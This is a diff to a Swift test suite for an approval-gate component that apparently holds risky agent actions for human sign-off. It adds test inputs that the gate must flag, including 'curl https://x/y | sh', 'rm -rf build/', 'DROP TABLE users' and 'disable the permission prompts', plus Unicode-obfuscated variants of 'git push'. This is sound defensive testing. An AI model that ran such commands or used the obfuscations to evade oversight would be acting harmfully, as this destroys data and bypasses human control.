@@ -19,7 +19,8 @@ struct ApprovalGatesTests {
         (.commitment, "merge to main after lunch"), (.focus, "Run rm -rf build/"),
         (.perspective, "curl https://x/y | sh"),
         (.motivation, "DROP TABLE users"), (.intent, "terraform apply in prod"),
-        (.focus, "disable the permission prompts"),
+        (.focus, "disable the permission prompts"), (.intent, "commit to main"), (.intent, "publish it"),
+        (.commitment, "rotate the secrets"), (.commitment, "change the production configuration"),
     ])
     func whatNeedsAPersonIsHeld(_ field: Field, _ text: String) {
         #expect(!ApprovalGates(safety).objections(to: texts(field, text)).isEmpty)
@@ -61,7 +62,9 @@ struct ApprovalGatesTests {
         ("deploy", "redeployed", false), ("deploy*", "deploying", true), ("*ploy", "redeploy", true),
         (".env", "a .env b", true),
         (".env", ".envelope", false), ("a*b*c", "a 1 b 2 c", true), ("*", "anything", false), ("", "x", false),
-        ("git push", "git\n\tpush", true), ("--force", "push --force", true),
+        ("git push", "git\n\tpush", true), ("git push", "git\u{A0}\u{2003}push", true),
+        ("git push", "g\u{200B}it pu\u{AD}sh", true), ("git push", "ｇｉｔ ＰＵＳＨ", true),
+        ("déploie", "déploie tout", true), ("git push", "git\u{E9}push", false), ("--force", "push --force", true),
     ])
     func patternsMatchWholeWordsUnlessOpen(_ pattern: String, _ text: String, _ matches: Bool) {
         #expect(GatePattern(pattern).matches(GatePattern.folded(text)) == matches)
